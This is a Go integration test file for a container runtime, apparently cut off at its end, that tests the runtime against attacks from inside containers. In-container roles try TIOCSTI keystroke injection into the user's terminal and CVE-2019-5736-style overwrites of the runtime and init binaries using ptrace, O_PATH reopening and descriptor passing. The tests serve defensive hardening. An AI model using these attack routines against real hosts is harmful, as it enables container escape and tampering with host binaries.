//go:build integration

package integration

// Attacks from inside a container on the user who runs myctr (issue 20,
// items 1 and 2):
//
//   - the caller's terminal: a container process that holds the user's
//     terminal (as stdio, or as its controlling terminal through /dev/tty)
//     can push characters into the user's shell with ioctl(TIOCSTI);
//   - the runtime binary (the CVE-2019-5736 class): a container process
//     that finds a process running myctr's own binary in its /proc (the
//     exec stage, or that binary run again as the interpreter of a
//     "#!/proc/self/exe" script) can ptrace it, or open its exe with O_PATH
//     and reopen it for writing once it has exited, and so replace the
//     binary the user runs next.
//
// The attacker is this test binary (static), bound into the container at /it
// and started with MYCTR_IT_ROLE; it reports what it managed to do as JSON
// in /shared, a directory of the test bound into the container.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"
	"golang.org/x/term"
)

// sharedDir is where the roles find the test's shared directory.
const sharedDir = "/shared"

// payload is what the attacker writes over a binary it can reopen.
const payload = "#!/bin/sh\necho PWNED by a container\n"

func init() {
	extraRoles["tty-attack"] = ttyAttackRole
	extraRoles["exe-attack"] = exeAttackRole
	extraRoles["initfd-send"] = initFdSendRole
	extraRoles["fd-recv-write"] = fdRecvWriteRole
}

// --- the roles, inside the container ---

// errName is "ok" for nil, else the errno's name (EPERM...) or the text.
func errName(err error) string {
	if err == nil {
		return "ok"
	}
	var en unix.Errno
	if errors.As(err, &en) {
		if n := unix.ErrnoName(en); n != "" {
			return n
		}
	}
	return err.Error()
}

// writeShared writes v as JSON to /shared/name, atomically.
func writeShared(name string, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		return
	}
	tmp := filepath.Join(sharedDir, "."+name+".tmp")
	if os.WriteFile(tmp, b, 0o644) == nil {
		os.Rename(tmp, filepath.Join(sharedDir, name))
	}
}

func sharedExists(name string) bool {
	_, err := os.Lstat(filepath.Join(sharedDir, name))
	return err == nil
}

// ttyReport is what tty-attack could do with the terminal it may have.
type ttyReport struct {
	Fds       [3]string // what fds 0..2 are: "chr MAJ:MIN tty", "fifo", ...
	STI       [3]string // ioctl(fd, TIOCSTI)
	DevTTY    string    // open("/dev/tty")
	DevTTYSTI string    // TIOCSTI through /dev/tty, when it opened
	Setsid    string    // setsid(), before trying to take a terminal
	Steal     [3]string // ioctl(fd, TIOCSCTTY) after setsid
	StealSTI  [3]string // TIOCSTI after that
	Done      bool
}

func fdKind(fd int) string {
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return errName(err)
	}
	switch st.Mode & unix.S_IFMT {
	case unix.S_IFCHR:
		k := fmt.Sprintf("chr %d:%d", unix.Major(st.Rdev), unix.Minor(st.Rdev))
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err == nil {
			k += " tty"
		}
		return k
	case unix.S_IFIFO:
		return "fifo"
	case unix.S_IFSOCK:
		return "socket"
	case unix.S_IFREG:
		return "file"
	}
	return fmt.Sprintf("mode %o", st.Mode)
}

// sti pushes s into the input of the terminal fd, one byte at a time.
func sti(fd int, s string) error {
	for i := 0; i < len(s); i++ {
		b := s[i]
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); e != 0 {
			return e
		}
	}
	return nil
}

// ttyAttackRole tries to type into whatever terminal it can reach, reports,
// waits for the test to look at its session, then tries to take a terminal
// as its own controlling terminal, and exits with 42.
func ttyAttackRole() int {
	fmt.Println("tty-attack stdout")
	fmt.Fprintln(os.Stderr, "tty-attack stderr")
	var r ttyReport
	for fd := 0; fd < 3; fd++ {
		r.Fds[fd] = fdKind(fd)
		r.STI[fd] = errName(sti(fd, fmt.Sprintf("echo INJECTED-%d\n", fd)))
	}
	if f, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err != nil {
		r.DevTTY = errName(err)
	} else {
		r.DevTTY = "ok"
		r.DevTTYSTI = errName(sti(f, "echo INJECTED-DEVTTY\n"))
		unix.Close(f)
	}
	writeShared("tty.json", r)
	// The test reads our session and controlling terminal from the host.
	deadline := time.Now().Add(time.Minute)
	for !sharedExists("go") {
		if time.Now().After(deadline) {
			return 2
		}
		time.Sleep(20 * time.Millisecond)
	}
	_, err := unix.Setsid()
	r.Setsid = errName(err)
	for fd := 0; fd < 3; fd++ {
		r.Steal[fd] = errName(unix.IoctlSetInt(fd, unix.TIOCSCTTY, 0))
		r.StealSTI[fd] = "-"
		if r.Steal[fd] == "ok" {
			r.StealSTI[fd] = errName(sti(fd, "echo INJECTED-STEAL\n"))
		}
	}
	r.Done = true
	writeShared("tty.json", r)
	return 42
}

// exeSummary is what exe-attack managed: for each step, how often each
// result came. Steps are "stage/..." for a process whose argv[0] is
// myctr-exec (the exec stage) before and after the attack, "raced/..." for
// one that executed its command meanwhile, "foreign/..." for any other
// process whose executable is none of the container's own, "held/..." for
// the reopening of what they held.
type exeSummary struct {
	StageSeen   int
	ForeignSeen int
	ForeignExe  map[string]int // readlink of their /proc/PID/exe
	Results     map[string]map[string]int
	Wrote       []string // executables overwritten
	Final       bool
}

func (s *exeSummary) add(step, result string) {
	if s.Results[step] == nil {
		s.Results[step] = map[string]int{}
	}
	s.Results[step][result]++
}

type heldExe struct {
	fd    int
	kind  string
	exe   string
	wrote bool
}

// exeAttackRole is the container's main process: it watches /proc for a
// process running a binary that is not the container's, attacks each one
// once (O_PATH open of its exe, PTRACE_SEIZE, environ, mem, open of its exe
// for writing) and keeps trying to reopen every exe it holds for writing
// (which the kernel refuses with ETXTBSY while any process runs it) until
// the test creates /shared/finish; then one last round, and the report.
func exeAttackRole() int {
	runtime.LockOSThread() // ptrace requests come from the attaching thread
	own := map[string]bool{"/bin/busybox": true}
	if self, err := os.Readlink("/proc/self/exe"); err == nil {
		own[self] = true
	}
	s := &exeSummary{ForeignExe: map[string]int{}, Results: map[string]map[string]int{}}
	var held []*heldExe
	// One attack per process image: the exec stage and what it executes
	// have the same pid.
	done := map[string]bool{}
	changed := true
	reopen := func() {
		for _, h := range held {
			if h.wrote {
				continue
			}
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", h.fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			s.add(h.kind+"/reopen-write", errName(err))
			if err != nil {
				continue
			}
			n, err := unix.Pwrite(w, []byte(payload), 0)
			unix.Close(w)
			s.add(h.kind+"/write", errName(err))
			if err == nil && n > 0 {
				h.wrote = true
				s.Wrote = append(s.Wrote, h.exe)
			}
			changed = true
		}
	}
	attack := func(pid int, kind, exe string, readlinkErr error) {
		p := fmt.Sprintf("/proc/%d", pid)
		type result struct{ step, res string }
		var got []result
		rec := func(step string, err error) { got = append(got, result{step, errName(err)}) }
		rec("readlink-exe", readlinkErr)
		defer func() {
			// The stage may have executed the command meanwhile: then
			// what was attacked is a container process, not the stage.
			if kind == "stage" {
				cmdline, _ := os.ReadFile(p + "/cmdline")
				if argv0, _, _ := bytes.Cut(cmdline, []byte{0}); string(argv0) != "myctr-exec" {
					kind = "raced"
				}
			}
			for _, r := range got {
				s.add(kind+"/"+r.step, r.res)
			}
		}()
		fd, err := unix.Open(p+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		rec("open-path", err)
		if err == nil {
			// Keep it unless it is one of the container's own programs
			// (the process has executed one meanwhile).
			if target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); own[target] {
				unix.Close(fd)
			} else {
				held = append(held, &heldExe{fd: fd, kind: "held", exe: target})
			}
		}
		err = unix.PtraceSeize(pid)
		rec("ptrace-seize", err)
		if err == nil {
			// Let it go again, or it would stop at its next signal.
			unix.PtraceInterrupt(pid)
			var ws unix.WaitStatus
			unix.Wait4(pid, &ws, unix.WALL, nil)
			unix.PtraceDetach(pid)
		}
		_, err = os.ReadFile(p + "/environ")
		rec("environ", err)
		m, err := unix.Open(p+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		rec("mem", err)
		if err == nil {
			unix.Close(m)
		}
		w, err := unix.Open(p+"/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0)
		rec("open-write", err)
		if err == nil {
			if target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", w)); !own[target] {
				_, err := unix.Pwrite(w, []byte(payload), 0)
				rec("write", err)
				if err == nil {
					s.Wrote = append(s.Wrote, target)
				}
			}
			unix.Close(w)
		}
		changed = true
	}
	deadline := time.Now().Add(5 * time.Minute)
	lastReopen := time.Now()
	for time.Now().Before(deadline) {
		if sharedExists("finish") {
			reopen()
			s.Final = true
			writeShared("exe.json", s)
			return 0
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if err != nil || len(cmdline) == 0 {
				continue
			}
			argv0, _, _ := bytes.Cut(cmdline, []byte{0})
			exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
			key := fmt.Sprintf("%d\x00%s\x00%s\x00%s", pid, argv0, exe, errName(err))
			if done[key] {
				continue
			}
			switch {
			case string(argv0) == "myctr-exec":
				done[key] = true
				s.StageSeen++
				attack(pid, "stage", exe, err)
			case err == nil && own[exe]:
				done[key] = true
			case err == nil || errors.Is(err, unix.EACCES):
				done[key] = true
				s.ForeignSeen++
				if err != nil {
					exe = errName(err)
				}
				s.ForeignExe[exe]++
				attack(pid, "foreign", exe, nil)
			}
		}
		if time.Since(lastReopen) > 10*time.Millisecond {
			reopen()
			lastReopen = time.Now()
		}
		if changed {
			writeShared("exe.json", s)
			changed = false
		}
		time.Sleep(100 * time.Microsecond)
	}
	return 1
}

// initFdSendRole runs under --init with CAP_SYS_ADMIN: it tries to make
// the binary at /run/myctr-init writable, to open PID 1's exe for writing,
// and sends an O_PATH descriptor of PID 1's exe to fd-recv-write in another
// container through /shared/fd.sock, so that the descriptor outlives this
// container (whose PID 1 keeps its exe busy while it runs).
func initFdSendRole() int {
	r := map[string]string{}
	defer writeShared("a.json", r)
	exe, err := os.Readlink("/proc/1/exe")
	r["pid1-exe"] = exe
	if err != nil {
		r["pid1-exe"] = errName(err)
	}
	r["remount-rw"] = errName(unix.Mount("", "/run/myctr-init", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	w, err := unix.Open("/proc/1/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	r["open-write"] = errName(err)
	if err == nil {
		_, err := unix.Pwrite(w, []byte(payload), 0)
		r["write"] = errName(err)
		unix.Close(w)
	}
	fd, err := unix.Open("/proc/1/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	r["open-path"] = errName(err)
	if err != nil {
		return 0
	}
	c, err := net.DialUnix("unix", nil, &net.UnixAddr{Name: filepath.Join(sharedDir, "fd.sock"), Net: "unix"})
	if err != nil {
		r["send"] = err.Error()
		return 0
	}
	defer c.Close()
	_, _, err = c.WriteMsgUnix([]byte("x"), unix.UnixRights(fd), nil)
	r["send"] = errName(err)
	return 0
}

// fdRecvWriteRole receives a descriptor on /shared/fd.sock and tries to
// reopen it for writing until /shared/stop appears.
func fdRecvWriteRole() int {
	r := map[string]any{}
	results := map[string]int{}
	r["reopen-write"] = results
	sock := filepath.Join(sharedDir, "fd.sock")
	os.Remove(sock)
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: sock, Net: "unix"})
	if err != nil {
		r["listen"] = err.Error()
		writeShared("b.json", r)
		return 1
	}
	l.SetDeadline(time.Now().Add(2 * time.Minute))
	c, err := l.AcceptUnix()
	if err != nil {
		r["accept"] = err.Error()
		writeShared("b.json", r)
		return 1
	}
	buf, oob := make([]byte, 16), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
	var fd = -1
	if err == nil {
		if msgs, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil && len(msgs) == 1 {
			if fds, err := unix.ParseUnixRights(&msgs[0]); err == nil && len(fds) == 1 {
				fd = fds[0]
			}
		}
	}
	if fd < 0 {
		r["received"] = fmt.Sprintf("no descriptor (%v)", err)
		writeShared("b.json", r)
		return 1
	}
	r["received"] = "ok"
	r["exe"], _ = os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	writeShared("b.json", r)
	deadline := time.Now().Add(2 * time.Minute)
	for !sharedExists("stop") && time.Now().Before(deadline) {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		results[errName(err)]++
		r["last"] = errName(err)
		if err == nil {
			_, err := unix.Pwrite(w, []byte(payload), 0)
			unix.Close(w)
			r["write"] = errName(err)
			writeShared("b.json", r)
			if err == nil {
				break
			}
		}
		writeShared("b.json", r)
		time.Sleep(20 * time.Millisecond)
	}
	r["final"] = true
	writeShared("b.json", r)
	return 0
}

// --- the tests, on the host ---

// readShared decodes /shared/name of the test's shared directory dir.
func readShared(dir, name string, v any) bool {
	b, err := os.ReadFile(filepath.Join(dir, name))
	return err == nil && json.Unmarshal(b, v) == nil
}

// sharedTempDir is a directory to bind at /shared, writable by the
// container's root (the test user).
func sharedTempDir(t *testing.T) string {
	t.Helper()
	d := t.TempDir()
	if err := os.Chmod(d, 0o755); err != nil {
		t.Fatal(err)
	}
	return d
}

// procSession returns the session id and controlling terminal (tty_nr,
// 0 for none) of a host pid, from /proc/PID/stat.
func procSession(t *testing.T, pid int) (sid, ttyNr int) {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		t.Fatalf("read stat of %d: %v", pid, err)
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+1:]) // f[0] is field 3
	sid, _ = strconv.Atoi(f[3])
	ttyNr, _ = strconv.Atoi(f[4])
	return sid, ttyNr
}

// findByToken returns the host pid of the attacker: argv "/it TOKEN".
func findByToken(token string) int {
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			continue
		}
		if a := bytes.Split(b, []byte{0}); len(a) >= 2 && string(a[0]) == "/it" && string(a[1]) == token {
			return pid
		}
	}
	return 0
}

// TestSecurityTerminalInjection runs exec and run with their stdio on the
// slave of a pty that is the controlling terminal of myctr's session (the
// user's terminal), and a container process that types into every
// terminal it can reach (TIOCSTI on fds 0-2, on /dev/tty, and on a
// terminal it takes as its own after setsid). Nothing may reach the input
// of the user's terminal; the container's process gets pipes (and
// /dev/null) instead of the terminal, runs in another session than
// myctr's and has no controlling terminal; its output still reaches the
// terminal, and its exit code is myctr's.
func TestSecurityTerminalInjection(t *testing.T) {
	t.Parallel()
	if b, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); err == nil && strings.TrimSpace(string(b)) == "0" {
		t.Log("dev.tty.legacy_tiocsti=0: the kernel refuses TIOCSTI anyway; the descriptors, sessions and /dev/tty are still checked")
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name     string
		exec     bool // exec into a running container, else run
		flags    []string
		detached bool
	}{
		{name: "exec", exec: true},
		{name: "exec -i", exec: true, flags: []string{"-i"}},
		{name: "run", flags: []string{"--rm"}},
		{name: "run -i", flags: []string{"--rm", "-i"}},
		{name: "run -d", flags: []string{"-d"}, detached: true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			shared := sharedTempDir(t)
			name := ctrName(t, "")
			token := "tty-attack-" + strconv.FormatInt(time.Now().UnixNano(), 36)
			binds := []string{"--network", "none", "-v", self + ":/it:ro", "-v", shared + ":" + sharedDir}
			var args []string
			if c.exec {
				runDetached(t, name, binds, "sleep", "300")
				args = append([]string{"exec"}, c.flags...)
				args = append(args, "-e", "MYCTR_IT_ROLE=tty-attack", name, "/it", token)
			} else {
				args = append([]string{"run", "--name", name}, c.flags...)
				args = append(args, binds...)
				args = append(args, "-e", "MYCTR_IT_ROLE=tty-attack", image, "/it", token)
			}
			checkTerminalAttack(t, shared, token, name, c.detached, args)
		})
	}
}

func checkTerminalAttack(t *testing.T, shared, token, name string, detached bool, args []string) {
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Fatalf("open a pty: %v", err)
	}
	defer ptmx.Close()
	defer tty.Close()
	if _, err := term.MakeRaw(int(tty.Fd())); err != nil {
		t.Fatalf("raw mode: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := myctrCommand(ctx, args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
	// The user's terminal: the controlling terminal of myctr's session.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	var out lockedBuffer
	go io.Copy(&out, ptmx)
	if err := cmd.Start(); err != nil {
		t.Fatalf("start myctr: %v", err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	caller := cmd.Process.Pid // its session id too (Setsid)

	var r ttyReport
	waitFor(t, time.Minute, "the attacker's first report", func() bool {
		select {
		case err := <-exited:
			if !detached {
				t.Fatalf("myctr %s ended before the attacker reported: %v; terminal: %q", strings.Join(args, " "), err, out.String())
			}
			exited <- err
		default:
		}
		return readShared(shared, "tty.json", &r)
	})
	pid := findByToken(token)
	if pid == 0 {
		t.Fatalf("no process with %s in its argv on the host", token)
	}
	sid, ttyNr := procSession(t, pid)
	if sid == caller {
		t.Errorf("the container's process is in myctr's session %d (no setsid): it shares the user's terminal", sid)
	}
	if ttyNr != 0 {
		t.Errorf("the container's process has a controlling terminal (tty_nr %#x)", ttyNr)
	}
	if err := os.WriteFile(filepath.Join(shared, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	var code int
	select {
	case err := <-exited:
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatalf("myctr: %v", err)
		}
	case <-ctx.Done():
		t.Fatalf("myctr %s did not end; terminal: %q", strings.Join(args, " "), out.String())
	}
	if detached {
		if code != 0 {
			t.Fatalf("run -d: exit %d; terminal: %q", code, out.String())
		}
		code = waitState(t, name, "exited", time.Minute).State.ExitCode
	}
	if code != 42 {
		t.Errorf("exit code %d, want the container process's 42; terminal: %q", code, out.String())
	}
	if !readShared(shared, "tty.json", &r) || !r.Done {
		t.Fatalf("no final report from the attacker: %+v", r)
	}
	t.Logf("attacker: %+v", r)
	for fd := 0; fd < 3; fd++ {
		if strings.HasSuffix(r.Fds[fd], " tty") {
			t.Errorf("fd %d of the container's process is a terminal (%s): the caller's", fd, r.Fds[fd])
		}
		if r.STI[fd] == "ok" {
			t.Errorf("TIOCSTI on fd %d succeeded", fd)
		}
		if r.Steal[fd] == "ok" {
			t.Errorf("fd %d became the controlling terminal after setsid (TIOCSTI then: %s)", fd, r.StealSTI[fd])
		}
	}
	if r.DevTTY == "ok" {
		t.Errorf("open(/dev/tty) succeeded in the container (TIOCSTI through it: %s)", r.DevTTYSTI)
	}
	// What the user's shell would read next.
	fds := []unix.PollFd{{Fd: int32(tty.Fd()), Events: unix.POLLIN}}
	if n, _ := unix.Poll(fds, 300); n > 0 {
		buf := make([]byte, 4096)
		k, _ := unix.Read(int(tty.Fd()), buf)
		t.Errorf("bytes typed into the user's terminal by the container: %q", buf[:max(k, 0)])
	}
	if !detached {
		if o := out.String(); !strings.Contains(o, "tty-attack stdout") || !strings.Contains(o, "tty-attack stderr") {
			t.Errorf("the container's stdout and stderr did not reach the terminal: %q", o)
		}
	}
}

// TestSecurityExecRelay: exec -i and run -i relay stdin (end of file
// included: cat ends), keep stdout and stderr apart, and pass the exit
// code on, now that the container's process gets pipes rather than the
// caller's descriptors.
func TestSecurityExecRelay(t *testing.T) {
	t.Parallel()
	name := ctrName(t, "")
	runDetached(t, name, []string{"--network", "none"}, "sleep", "300")
	const script = "cat; echo out; echo err >&2; exit 3"
	for _, args := range [][]string{
		{"exec", "-i", name, "sh", "-c", script},
		{"run", "--rm", "-i", "--network", "none", image, "sh", "-c", script},
	} {
		out, errOut, code := runMyctr(cmdTimeout, []byte("line1\nline2"), args...)
		if out != "line1\nline2out\n" || errOut != "err\n" || code != 3 {
			t.Errorf("myctr %s: stdout %q, stderr %q, exit %d; want %q, %q, 3", args[0], out, errOut, code, "line1\nline2out\n", "err\n")
		}
	}
	// Without -i the process reads /dev/null, not our stdin.
	out, _, code := runMyctr(cmdTimeout, []byte("not for the container\n"), "exec", name, "cat")
	if out != "" || code != 0 {
		t.Errorf("exec without -i: cat printed %q (exit %d), want nothing", out, code)
	}
}

// installMyctr lays the built myctr, myctr-init and myctr-seccomp out as
// `make install PREFIX=DIR` does (DIR/bin/myctr, DIR/libexec/myctr/..., mode
// 0755), in a directory the test user owns, as a user who installs myctr in
// their home would; it returns the paths of myctr and myctr-init.
func installMyctr(t *testing.T) (myctrBin, initBin string) {
	t.Helper()
	prefix := t.TempDir()
	myctrBin = filepath.Join(prefix, "bin", "myctr")
	initBin = filepath.Join(prefix, "libexec", "myctr", "myctr-init")
	seccompBin := filepath.Join(prefix, "libexec", "myctr", "myctr-seccomp")
	for dst, src := range map[string]string{myctrBin: bin, initBin: filepath.Join(filepath.Dir(bin), "myctr-init"),
		seccompBin: filepath.Join(filepath.Dir(bin), "myctr-seccomp")} {
		b, err := os.ReadFile(src)
		if err != nil {
			t.Fatalf("read %s: %v", src, err)
		}
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(dst, b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	var st unix.Stat_t
	if err := unix.Stat(initBin, &st); err != nil || int(st.Uid) != os.Getuid() {
		t.Fatalf("installed %s is not owned by the test user (%v, uid %d)", initBin, err, st.Uid)
	}
	return myctrBin, initBin
}

// installs are the two layouts the overwrite tests attack: myctr
// installed where the user may write (the stages must then run from a
// sealed copy), and the build's own binaries, which belong to root when the
// tier runs as root (as a distribution's do: the stages may run the file,
// which no container can write).
func installs(t *testing.T) []struct{ name, myctr, init string } {
	myctrBin, initBin := installMyctr(t)
	return []struct{ name, myctr, init string }{
		{"user-owned", myctrBin, initBin},
		{"build", bin, filepath.Join(filepath.Dir(bin), "myctr-init")},
	}
}

// rootOwned reports whether p belongs to root and nobody else may write it,
// and we are not root: then no container of ours can write it.
func rootOwned(t *testing.T, p string) bool {
	var st unix.Stat_t
	if err := unix.Stat(p, &st); err != nil {
		t.Fatal(err)
	}
	return st.Uid == 0 && st.Mode&0o022 == 0 && os.Geteuid() != 0
}

func fileHash(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("read %s: %v", p, err)
	}
	return fmt.Sprintf("%x", sha256.Sum256(b))
}

// runWith runs another myctr binary with the test's roots.
func runWith(myctrBin string, timeout time.Duration, args ...string) (stdout, stderr string, code int) {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, myctrBin, globalArgs(args)...)
	cmd.WaitDelay = 5 * time.Second
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case err == nil:
	case errors.As(err, &ee):
		code = ee.ExitCode()
	default:
		code = -1
		e.WriteString(err.Error())
	}
	return o.String(), e.String(), code
}

// TestSecurityExecStageOverwrite is the CVE-2019-5736 attack on `myctr
// exec`, with myctr installed in a directory the user owns: the
// container's main process (with CAP_SYS_PTRACE) watches for the exec stage (argv[0]
// myctr-exec) and for any process running a binary that is not the
// container's own, while the host runs `myctr exec CTR true` and `myctr
// exec CTR /x`, where /x is a script whose interpreter is /proc/self/exe
// (the binary that execs it). The stage must not be ptraceable, its exe
// must not be openable at all, whatever the attacker holds of a binary that
// ran in the container must not be writable, and the installed binaries
// must be unchanged.
func TestSecurityExecStageOverwrite(t *testing.T) {
	t.Parallel()
	for _, in := range installs(t) {
		t.Run(in.name, func(t *testing.T) {
			t.Parallel()
			attackExecStage(t, in.myctr, in.init)
		})
	}
}

func attackExecStage(t *testing.T, myctrBin, initBin string) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	before := map[string]string{myctrBin: fileHash(t, myctrBin), initBin: fileHash(t, initBin)}
	shared := sharedTempDir(t)
	name := ctrName(t, "")
	// With CAP_SYS_PTRACE, as people run containers they debug in: without
	// it, the kernel's capability check keeps the attacker off the stage
	// only while the stage holds more capabilities than the attacker, which
	// ends just before it executes the command.
	args := []string{"run", "-d", "--name", name, "--network", "none", "--cap-add", "SYS_PTRACE", "-v", self + ":/it:ro",
		"-v", shared + ":" + sharedDir, "-e", "MYCTR_IT_ROLE=exe-attack", image, "/it"}
	if out, errOut, code := runWith(myctrBin, cmdTimeout, args...); code != 0 {
		t.Fatalf("run -d: exit %d: %s%s", code, out, errOut)
	}
	if out, errOut, code := runWith(myctrBin, cmdTimeout, "exec", name, "sh", "-c", `printf '#!/proc/self/exe\n' >/x && chmod 755 /x`); code != 0 {
		t.Fatalf("plant /x: exit %d: %s%s", code, out, errOut)
	}
	var s exeSummary
	for i := 0; i < 80; i++ {
		if _, errOut, code := runWith(myctrBin, cmdTimeout, "exec", name, "true"); code != 0 {
			t.Logf("exec true: exit %d: %s", code, errOut)
		}
		runWith(myctrBin, cmdTimeout, "exec", name, "/x")
		if readShared(shared, "exe.json", &s) && (len(s.Wrote) > 0 || s.StageSeen >= 5 && s.ForeignSeen >= 3) {
			break
		}
	}
	// The stages have ended: one last round of reopening for writing.
	if err := os.WriteFile(filepath.Join(shared, "finish"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	waitFor(t, time.Minute, "the attacker's final report", func() bool {
		return readShared(shared, "exe.json", &s) && s.Final
	})
	b, _ := json.MarshalIndent(s, "", " ")
	t.Logf("attacker's report: %s", b)
	for p, h := range before {
		if fileHash(t, p) != h {
			t.Errorf("the installed %s was overwritten from inside the container", p)
		}
	}
	if len(s.Wrote) > 0 {
		t.Errorf("the container wrote over: %v", s.Wrote)
	}
	if s.StageSeen == 0 {
		t.Fatalf("the attacker never saw an exec stage in 80 execs: the test cannot conclude")
	}
	for step, results := range s.Results {
		for res := range results {
			bad := false
			switch step {
			case "stage/ptrace-seize":
				bad = res != "EPERM"
			case "stage/readlink-exe", "stage/open-path", "stage/open-write", "stage/environ", "stage/mem":
				bad = res == "ok"
			case "stage/write", "foreign/write", "raced/write", "held/write":
				bad = res == "ok"
			}
			if bad {
				t.Errorf("%s: %s (%d times)", step, res, results[res])
			}
		}
	}
	for exe := range s.ForeignExe {
		if !strings.HasPrefix(exe, "/memfd:") && exe != "EACCES" && !rootOwned(t, initBin) {
			t.Errorf("a process in the container ran %s, not a sealed copy of myctr's binary", exe)
		}
	}
}

// TestSecurityInitBinaryOverwrite is the same attack on `run --init`, whose
// PID 1 runs myctr-init for the container's whole life: a container with
// CAP_SYS_ADMIN tries to make /run/myctr-init writable, and hands an
// O_PATH descriptor of PID 1's exe to a second container, which reopens it
// for writing once the first one has ended (its PID 1 no longer runs it).
// The installed binaries must be unchanged.
func TestSecurityInitBinaryOverwrite(t *testing.T) {
	t.Parallel()
	for _, in := range installs(t) {
		t.Run(in.name, func(t *testing.T) {
			t.Parallel()
			attackInitBinary(t, in.myctr, in.init)
		})
	}
}

func attackInitBinary(t *testing.T, myctrBin, initBin string) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	before := map[string]string{myctrBin: fileHash(t, myctrBin), initBin: fileHash(t, initBin)}
	shared := sharedTempDir(t)
	recv, send := ctrName(t, "recv"), ctrName(t, "send")
	common := []string{"--network", "none", "-v", self + ":/it:ro", "-v", shared + ":" + sharedDir}
	args := append([]string{"run", "-d", "--name", recv}, common...)
	args = append(args, "-e", "MYCTR_IT_ROLE=fd-recv-write", image, "/it")
	if out, errOut, code := runWith(myctrBin, cmdTimeout, args...); code != 0 {
		t.Fatalf("run the receiver: exit %d: %s%s", code, out, errOut)
	}
	waitFor(t, 30*time.Second, "the receiver's socket", func() bool {
		_, err := os.Stat(filepath.Join(shared, "fd.sock"))
		return err == nil
	})
	args = append([]string{"run", "-d", "--init", "--cap-add", "SYS_ADMIN", "--name", send}, common...)
	args = append(args, "-e", "MYCTR_IT_ROLE=initfd-send", image, "/it")
	if out, errOut, code := runWith(myctrBin, cmdTimeout, args...); code != 0 {
		t.Fatalf("run the sender: exit %d: %s%s", code, out, errOut)
	}
	var a map[string]string
	waitFor(t, 30*time.Second, "the sender's report", func() bool { return readShared(shared, "a.json", &a) })
	t.Logf("sender: %v", a)
	waitState(t, send, "exited", 30*time.Second)
	var b map[string]any
	if a["send"] == "ok" {
		// Give the receiver its chance now that nothing runs the binary.
		waitFor(t, 30*time.Second, "the receiver's attempt after the sender ended", func() bool {
			return readShared(shared, "b.json", &b) && (b["write"] != nil || b["last"] != nil && b["last"] != "ETXTBSY")
		})
	}
	os.WriteFile(filepath.Join(shared, "stop"), nil, 0o644)
	waitFor(t, 30*time.Second, "the receiver's final report", func() bool {
		return readShared(shared, "b.json", &b) && b["final"] == true
	})
	t.Logf("receiver: %v", b)
	for p, h := range before {
		if fileHash(t, p) != h {
			t.Errorf("the installed %s was overwritten from inside a container", p)
		}
	}
	if a["write"] == "ok" {
		t.Errorf("PID 1's exe written inside the container")
	}
	if b["write"] == "ok" {
